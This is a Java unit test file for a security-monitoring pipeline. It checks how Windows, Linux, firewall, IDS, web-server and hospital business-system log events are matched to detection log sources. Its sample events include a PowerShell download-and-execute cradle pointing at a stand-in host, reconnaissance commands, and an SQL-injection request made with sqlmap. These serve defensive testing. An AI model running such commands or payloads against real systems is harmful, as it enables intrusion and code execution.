package org.medsoc.detect.mapping;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.medsoc.spi.event.Event;
import org.medsoc.spi.event.Field;
import org.medsoc.spi.event.Fields;
import org.medsoc.spi.event.TenantId;

/** Log-source matchers over events shaped like the ones medsoc's parsers produce. */
class LogSourceMatcherTest {
    private static final MappingPipeline PIPELINE = MappingPipeline.loadDefaults();

    private static Field field(String name) {
        Field f = Fields.intern(name);
        assertThat(f).as(name).isNotNull();
        return f;
    }

    private static Event event(String... pairs) {
        Event e = new Event(TenantId.DEFAULT, 1_700_000_000_000L, String.join(" ", pairs));
        for (int i = 0; i < pairs.length; i += 2) {
            e.add(field(pairs[i]), pairs[i + 1]);
        }
        return e;
    }

    private static boolean matches(String product, String category, String service, Event e) {
        return PIPELINE.logSource(product, category, service).orElseThrow().matches(e);
    }

    private static Event sysmonProcessCreation() {
        return event("winlog.channel", "Microsoft-Windows-Sysmon/Operational",
                "winlog.provider_name", "Microsoft-Windows-Sysmon",
                "winlog.event_id", "1", "event.code", "1", "host.name", "WS01.hospital.local",
                "winlog.event_data.Image", "C:\\Windows\\System32\\cmd.exe",
                "winlog.event_data.CommandLine", "cmd.exe /c whoami",
                "winlog.event_data.ParentImage", "C:\\Windows\\explorer.exe",
                "process.executable", "C:\\Windows\\System32\\cmd.exe", "event.category", "process",
                "event.type", "start");
    }

    private static Event security(String id, String... more) {
        Event e = event("winlog.channel", "Security",
                "winlog.provider_name", "Microsoft-Windows-Security-Auditing",
                "winlog.event_id", id, "event.code", id, "host.name", "DC01");
        for (int i = 0; i < more.length; i += 2) {
            e.add(field(more[i]), more[i + 1]);
        }
        return e;
    }

    @Test
    void sysmonProcessCreationSelectsOnlyProcessCreationAndSysmon() {
        Event e = sysmonProcessCreation();

        assertThat(matches("windows", "process_creation", null, e)).isTrue();
        assertThat(matches("windows", null, "sysmon", e)).isTrue();
        assertThat(matches("windows", null, null, e)).isTrue();
        assertThat(matches("windows", "file_event", null, e)).isFalse();
        assertThat(matches("windows", "network_connection", null, e)).isFalse();
        assertThat(matches("windows", null, "security", e)).isFalse();
        assertThat(matches("linux", "process_creation", null, e)).isFalse();
    }

    @Test
    void security4688IsProcessCreationWithNewProcessNameAsImage() {
        Event e = security("4688", "winlog.event_data.NewProcessName", "C:\\Windows\\System32\\net.exe",
                "winlog.event_data.CommandLine", "net user /domain");
        LogSourceKey key = LogSourceKey.of("windows", "process_creation", null);

        assertThat(matches("windows", "process_creation", null, e)).isTrue();
        assertThat(matches("windows", null, "security", e)).isTrue();
        assertThat(PIPELINE.fieldsFor(key, "Image")).anySatisfy(name -> assertThat(
                Fields.find(name).map(e::value).orElse(null)).isEqualTo("C:\\Windows\\System32\\net.exe"));
    }

    @Test
    void security4624IsSecurityButNotProcessCreation() {
        Event e = security("4624", "winlog.event_data.TargetUserName", "alice", "winlog.event_data.LogonType",
                "10", "winlog.event_data.IpAddress", "10.1.2.3", "source.ip", "10.1.2.3");

        assertThat(matches("windows", null, "security", e)).isTrue();
        assertThat(matches("windows", "process_creation", null, e)).isFalse();
        assertThat(matches("windows", null, "system", e)).isFalse();
        assertThat(PIPELINE.map(LogSourceKey.of("windows", null, "security"), "TargetUserName"))
                .isEqualTo("winlog.event_data.TargetUserName");
    }

    @Test
    void powershell4104IsScriptBlockLogging() {
        Event e = event("winlog.channel", "Microsoft-Windows-PowerShell/Operational",
                "winlog.provider_name", "Microsoft-Windows-PowerShell", "winlog.event_id", "4104",
                "winlog.event_data.ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://x')");

        assertThat(matches("windows", "ps_script", null, e)).isTrue();
        assertThat(matches("windows", null, "powershell", e)).isTrue();
        assertThat(matches("windows", "ps_module", null, e)).isFalse();
        assertThat(matches("windows", "ps_classic_start", null, e)).isFalse();
        assertThat(PIPELINE.map(LogSourceKey.of("windows", "ps_script", null), "ScriptBlockText"))
                .isEqualTo("winlog.event_data.ScriptBlockText");
    }

    @Test
    void linuxSshdFromLinuxAuthParser() {
        Event e = event("message", "Failed password for root from 203.0.113.9 port 52211 ssh2",
                "log.syslog.appname", "sshd", "log.syslog.procid", "811", "user.name", "root",
                "source.ip", "203.0.113.9", "system.auth.ssh.event", "Failed", "system.auth.ssh.method", "password",
                "event.category", "authentication", "event.outcome", "failure", "event.module", "system",
                "event.dataset", "system.auth");

        assertThat(matches("linux", null, "sshd", e)).isTrue();
        assertThat(matches("linux", null, "auth", e)).isTrue();
        assertThat(matches("linux", null, "syslog", e)).isTrue();
        assertThat(matches("linux", null, null, e)).isTrue();
        assertThat(matches("linux", null, "sudo", e)).isFalse();
        assertThat(matches("linux", "process_creation", null, e)).isFalse();
        assertThat(matches("windows", null, "security", e)).isFalse();
    }

    @Test
    void fortiGateTrafficIsFirewallButNotProxyOrDns() {
        Event e = event("observer.vendor", "Fortinet", "observer.product", "FortiGate", "observer.type", "firewall",
                "fortinet.type", "traffic", "fortinet.subtype", "forward", "fortinet.action", "deny",
                "source.ip", "10.0.0.5", "destination.ip", "198.51.100.7", "destination.port", "445",
                "event.category", "network", "event.type", "connection", "event.type", "denied");

        assertThat(matches(null, "firewall", null, e)).isTrue();
        assertThat(matches("fortigate", null, "traffic", e)).isTrue();
        assertThat(matches("fortigate", null, "event", e)).isFalse();
        assertThat(matches(null, "proxy", null, e)).isFalse();
        assertThat(matches(null, "dns", null, e)).isFalse();
        assertThat(matches(null, "ids", null, e)).isFalse();
        assertThat(PIPELINE.map(LogSourceKey.of(null, "firewall", null), "dst_port")).isEqualTo("destination.port");
    }

    @Test
    void suricataAlertIsIdsWithMultiValuedCategory() {
        Event e = event("event.module", "suricata", "event.dataset", "suricata.eve", "observer.vendor", "OISF",
                "observer.product", "Suricata", "observer.type", "ids", "event.kind", "alert",
                "event.category", "network", "event.category", "intrusion_detection",
                "rule.name", "ET SCAN Nmap", "source.ip", "192.0.2.1", "destination.ip", "10.0.0.9");

        assertThat(matches(null, "ids", null, e)).isTrue();
        assertThat(matches("suricata", null, null, e)).isTrue();
        assertThat(matches(null, "firewall", null, e)).isFalse();
        assertThat(matches(null, "webserver", null, e)).isFalse();
        // the second event.category value is what the IDS entry's second alternative tests
        Event withoutType = event("event.category", "network", "event.category", "intrusion_detection");
        assertThat(matches(null, "ids", null, withoutType)).isTrue();
    }

    @Test
    void nginxAccessIsWebserverAndNginx() {
        Event e = event("source.ip", "198.51.100.20", "http.request.method", "GET",
                "url.original", "/index.php?id=1%27%20or%201=1", "http.response.status_code", "200",
                "user_agent.original", "sqlmap/1.7", "event.category", "web", "event.type", "access",
                "event.module", "nginx", "event.dataset", "nginx.access", "event.outcome", "success");

        assertThat(matches(null, "webserver", null, e)).isTrue();
        assertThat(matches(null, null, "nginx", e)).isTrue();
        assertThat(matches(null, null, "apache", e)).isFalse();
        assertThat(matches(null, "proxy", null, e)).isFalse();
        assertThat(PIPELINE.fieldsFor(LogSourceKey.of(null, "webserver", null), "cs-uri-query"))
                .containsExactly("url.query", "url.original");
    }

    @Test
    void medsocBusinessSystems() {
        Event his = event("medsoc.business_system", "his", "user.name", "dr.wang", "event.action", "record_view");

        assertThat(matches("medsoc", null, "his", his)).isTrue();
        assertThat(matches("medsoc", null, "business", his)).isTrue();
        assertThat(matches("medsoc", null, "pacs", his)).isFalse();
        assertThat(matches("medsoc", null, "pipeline", his)).isFalse();
    }

    @Test
    void valueComparisonIgnoresAsciiCaseAndEveryLargeEventWorks() {
        Event e = event("winlog.channel", "security", "winlog.event_id", "4688");
        for (int i = 0; i < 40; i++) {
            e.add(field("winlog.event_data.Extra" + i), "v" + i);
        }
        assertThat(e.size()).isGreaterThan(16);

        assertThat(matches("windows", "process_creation", null, e)).isTrue();
    }

    @Test
    void conditionOnUndeclaredFieldNeverMatches() {
        MappingPipeline p = MappingPipeline.fromTexts(Map.of("t.yml", """
                name: t
                version: 1
                logsources:
                  - product: t
                    condition: {t.never.declared.field.x9: yes}
                  - product: u
                    condition: {not: {exists: t.never.declared.field.y9}}
                """));

        assertThat(p.logSource("t", null, null).orElseThrow().matches(event("message", "x"))).isFalse();
        assertThat(p.logSource("u", null, null).orElseThrow().matches(event("message", "x"))).isTrue();
        assertThat(Fields.find("t.never.declared.field.x9")).isEmpty();
    }

    @Test
    void shippedMatchersSelectExactlyTheExpectedLogSources() {
        assertThat(matchingKeys(sysmonProcessCreation())).containsExactlyInAnyOrder(
                LogSourceKey.of("windows", "process_creation", null),
                LogSourceKey.of("windows", null, "sysmon"),
                LogSourceKey.of("windows", null, null));
        assertThat(matchingKeys(event("message", "no source fields at all"))).isEmpty();
        assertThat(PIPELINE.logSources()).hasSizeGreaterThan(100);
    }

    private static List<LogSourceKey> matchingKeys(Event e) {
        return PIPELINE.logSources().stream()
                .filter(k -> PIPELINE.logSource(k).orElseThrow().matches(e))
                .toList();
    }

    @Test
    void matchingAllocatesNothing() {
        java.lang.management.ThreadMXBean bean = java.lang.management.ManagementFactory.getThreadMXBean();
        org.junit.jupiter.api.Assumptions.assumeTrue(bean instanceof com.sun.management.ThreadMXBean,
                "no per-thread allocation counter in this JVM");
        com.sun.management.ThreadMXBean threads = (com.sun.management.ThreadMXBean) bean;
        List<LogSourceMatcher> matchers = PIPELINE.logSources().stream()
                .map(k -> PIPELINE.logSource(k).orElseThrow())
                .toList();
        LogSourceMatcher[] all = matchers.toArray(LogSourceMatcher[]::new);
        Event[] events = {sysmonProcessCreation(), security("4688"), event("message", "x", "event.category", "a",
                "event.category", "b", "observer.type", "firewall")};
        int hits = run(all, events, 2_000);
        long before = threads.getCurrentThreadAllocatedBytes();
        hits += run(all, events, 20_000);
        long allocated = threads.getCurrentThreadAllocatedBytes() - before;

        assertThat(hits).isPositive();
        // 20,000 rounds over every matcher and event: anything per evaluation would be megabytes
        assertThat(allocated).isLessThan(64 * 1024);
    }

    private static int run(LogSourceMatcher[] matchers, Event[] events, int rounds) {
        int hits = 0;
        for (int r = 0; r < rounds; r++) {
            for (LogSourceMatcher m : matchers) {
                for (Event e : events) {
                    if (m.matches(e)) {
                        hits++;
                    }
                }
            }
        }
        return hits;
    }
}
